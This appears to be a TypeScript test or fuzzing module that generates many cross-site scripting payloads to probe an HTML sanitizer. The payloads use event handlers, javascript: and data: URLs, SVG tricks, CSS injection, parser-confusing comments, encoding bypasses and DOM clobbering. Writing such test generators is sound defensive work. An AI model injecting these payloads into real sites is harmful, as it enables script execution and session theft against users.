import type { Random } from './createRandom';
import {
  attribute,
  call,
  carriers,
  encodeSome,
  eventNames,
  hostileUrl,
  missingFiles,
  mixCase,
  plainCarriers,
  separator,
} from './hostileParts';

/** One kind of attack: creates markup that tries to execute a script. */
export type Kind = (random: Random) => string;

/** Markup that executes by itself, without a tap. */
export const selfStarting: Kind = (random) => {
  const code = call(random);
  const file = random.pick(missingFiles);
  return random.pick([
    `<img src=${file} onerror=${code}>`,
    `<img/src="${file}"/onerror="${code}">`,
    `<svg onload=${code}>`,
    `<svg><script>${code}</script></svg>`,
    `<script>${code}</script>`,
    `<details open ontoggle=${code}>x</details>`,
    `<input autofocus onfocus=${code}>`,
    `<video><source src=${file} onerror=${code}></video>`,
    `<audio src=${file} onerror=${code}>`,
    `<style onload=${code}></style>`,
    `<marquee onstart=${code}>x</marquee>`,
    `<iframe onload=${code}></iframe>`,
    `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
    `<body onload=${code}>`,
    `<object data=x onerror=${code}></object>`,
    `<link rel=stylesheet href=x onerror=${code}>`,
  ]);
};

const eventHandler: Kind = (random) => {
  const tag = random.pick([...carriers, ...plainCarriers]);
  const code = encodeSome(random, call(random), random.pick([0, 0, 0.3]));
  const parts = [
    mixCase(random, tag),
    attribute(
      random,
      random.pick(['src', 'title', 'style', 'tabindex', 'class']),
      random.pick(['1', 'a b', ...missingFiles]),
    ),
    attribute(random, random.pick(eventNames), code),
  ];
  return `<${parts.join(separator(random))}${random.pick(['>', '>', '/>', ' ', ''])}${random.pick(['x', '', `</${tag}>`])}`;
};

const urlCarriers: readonly (readonly [string, string, string])[] = [
  ['a', 'href', 'x</a>'],
  ['a', 'xlink:href', 'x</a>'],
  ['area', 'href', ''],
  ['iframe', 'src', '</iframe>'],
  ['embed', 'src', ''],
  ['object', 'data', '</object>'],
  ['form', 'action', '<button>x</button></form>'],
  ['button', 'formaction', 'x</button>'],
  ['img', 'src', ''],
  ['img', 'srcset', ''],
  ['video', 'src', '</video>'],
  ['video', 'poster', '</video>'],
  ['source', 'src', ''],
  ['audio', 'src', '</audio>'],
  ['base', 'href', '<a href=x>x</a>'],
  ['link', 'href', ''],
  ['td', 'background', 'x'],
  ['math', 'href', 'x</math>'],
  ['blockquote', 'cite', 'x</blockquote>'],
  ['script', 'src', '</script>'],
];

const scheme: Kind = (random) => {
  const [tag, name, rest] = random.pick(urlCarriers);
  const open = `<${mixCase(random, tag)}${separator(random)}${attribute(random, name, hostileUrl(random))}>${rest}`;
  return random.chance(0.25) ? `<svg>${open}` : open;
};

const svgLinks: Kind = (random) => {
  const url = hostileUrl(random);
  return random.pick([
    `<svg><a xlink:href="${url}"><text x=20 y=20>x</text></a></svg>`,
    `<svg><a><animate attributeName=href values="${url}"/><text y=20>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><a href='${url}'/></svg>#x"/></svg>`,
    `<svg><set attributeName=href to="${url}"/></svg>`,
    `<svg><foreignObject><a href="${url}">x</a></foreignObject></svg>`,
    `<math><maction actiontype="statusline" xlink:href="${url}">x</maction></math>`,
    `<math><a xlink:href="${url}">x</a></math>`,
  ]);
};

const styles: Kind = (random) => {
  const code = call(random);
  const value = random.pick([
    `background:url(javascript:${code})`,
    `background-image:url("data:text/html,<script>${code}</script>")`,
    `width:expression(${code})`,
    `-moz-binding:url(//x/x.xml#x)`,
    `behavior:url(#default#time2)`,
    `color:red;/*`,
    `col\\6fr:re\\64;background:u\\72l(//x)`,
    `animation-name:x;animation-duration:1s`,
    `position:fixed;inset:0;z-index:9999;opacity:0`,
    `color:red}</style><img src=x onerror=${code}>`,
    `font-size:1px;@import '//x'`,
    `text-align:center;color:rgb(1,2,3);content:"</p><script>${code}</script>"`,
  ]);
  return random.pick([
    `<div ${attribute(random, 'style', value)}>x</div>`,
    `<style>*{${value}}</style>`,
    `<style>@import 'javascript:${code}';</style>`,
    `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${code}>x</p>`,
    `<link rel=stylesheet href="data:text/css,*{${value}}">`,
  ]);
};

const documents: Kind = (random) => {
  const code = call(random);
  return random.pick([
    `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
    `<iframe srcdoc="${encodeSome(random, `<script>parent.${code}</script>`, 0.6)}"></iframe>`,
    `<iframe src="${hostileUrl(random)}"></iframe>`,
    `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
    `<meta http-equiv=refresh content="0;url=data:text/html,<script>${code}</script>">`,
    `<meta http-equiv=Content-Security-Policy content="default-src *">`,
    `<base href="javascript:/a/-${code}/"><a href=#>x</a>`,
    `<object data="data:text/html,<script>${code}</script>"></object>`,
    `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>">`,
    `<frameset onload=${code}><frame src=javascript:${code}></frameset>`,
    `<link rel=import href="data:text/html,<script>${code}</script>">`,
    `<link rel=preload as=script href=x onload=${code}>`,
    `<applet code=x></applet><isindex action=javascript:${code} type=submit value=x>`,
    `<portal src="javascript:${code}"></portal>`,
  ]);
};

const comments: Kind = (random) => {
  const inner = selfStarting(random);
  return random.pick([
    `<!-->${inner}-->`,
    `<!--->${inner}-->`,
    `<!-- a --!>${inner}`,
    `<!-- <!-- --> ${inner} -->`,
    `<!--[if IE]>${inner}<![endif]-->`,
    `<![CDATA[>${inner}]]>`,
    `<![CDATA[<!--]]>${inner}<!--`,
    `<svg><![CDATA[</svg>${inner}]]></svg>`,
    `<?xml version="1.0"?>${inner}`,
    `<?php echo '?>${inner}'`,
    `<!DOCTYPE x [<!ENTITY a "${inner}">]>&a;`,
    `</ ${inner}>`,
    `<%${inner}%>`,
    `<!${inner}>`,
    `<!--${inner}`,
  ]);
};

const malformed: Kind = (random) => {
  const code = call(random);
  return random.pick([
    `<<script>${code}//<</script>`,
    `<img """><script>${code}</script>">`,
    `<scr\0ipt>${code}</scr\0ipt>`,
    `<script/x>${code}</script>`,
    `<script\f>${code}</script\t>`,
    `<img src=x onerror=${code}//`,
    `<img src=x:x onerror\0=${code}>`,
    `<a href="x" "onclick="${code}">x</a>`,
    `<p title="a"onclick=${code}>x</p>`,
    `<div/onclick=${code}>x</div/>`,
    `<p =onclick=${code}>x`,
    `<img src='x' alt='\`\` onerror=${code}'>`,
    `<a title="\`onmouseover=${code}">x</a>`,
    `<x/onclick=${code}>x`,
    `<a b='"' c=">" onclick=${code} d='">'>x</a>`,
    `<img src="x\` \`<script>${code}</script>"\` \`>`,
    `<svg/onload=${code}<svg`,
    `<ſcript>${code}</ſcript>`,
    `<\u212aeygen autofocus onfocus=${code}>`,
    `<iMg sRc=x oNeRrOr=${code} x=`,
  ]);
};

const encodings: Kind = (random) => {
  const inner = selfStarting(random);
  return random.pick([
    inner.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
    inner.replace(/</g, '&amp;lt;'),
    inner.replace(/</g, '&LT').replace(/>/g, '&GT'),
    encodeURIComponent(inner),
    inner.replace(/</g, '+ADw-').replace(/>/g, '+AD4-'),
    inner.replace(/</g, '＜').replace(/>/g, '＞'),
    inner.replace(/</g, '\u00bc').replace(/>/g, '\u00be'),
    inner.replace(/</g, '\\u003c'),
    encodeSome(random, inner, 0.5),
    `<p title="${encodeSome(random, `">${inner}`, 0.7)}">x</p>`,
    `<img src=/x alt="${inner.replace(/"/g, '&quot;')}">`,
    `<a href="/x" title='${inner.replace(/'/g, '&apos;')}'>x</a>`,
    `<a href="https://x.example/?q=${encodeSome(random, `"${inner}`, 0.8).replace(/"/g, '&#34;')}">x</a>`,
  ]);
};

const clobbering: Kind = (random) => {
  const name = random.pick([
    'attributes',
    'childNodes',
    'innerHTML',
    'parentNode',
    'body',
    'cookie',
    'location',
    'tagName',
  ]);
  const payload = selfStarting(random);
  return random.pick([
    `<form><input name=${name}>${payload}</form>`,
    `<form id=${name}><button name=remove>x</button></form>${payload}`,
    `<img name=${name}><img id=${name} src=cid:x onerror=${call(random)}>`,
    `<a id=${name}></a><a id=${name} name=url href="${hostileUrl(random)}">x</a>`,
    `<object name=${name}>${payload}</object>`,
    `<iframe name=${name} srcdoc="${payload.replace(/"/g, '&quot;')}"></iframe>`,
    `<p id="__proto__" name="constructor">${payload}</p>`,
    `<form name=document><output id=getElementById>${payload}</output></form>`,
  ]);
};

export const simpleKinds: readonly Kind[] = [
  selfStarting,
  eventHandler,
  eventHandler,
  scheme,
  scheme,
  svgLinks,
  styles,
  documents,
  comments,
  malformed,
  encodings,
  clobbering,
];
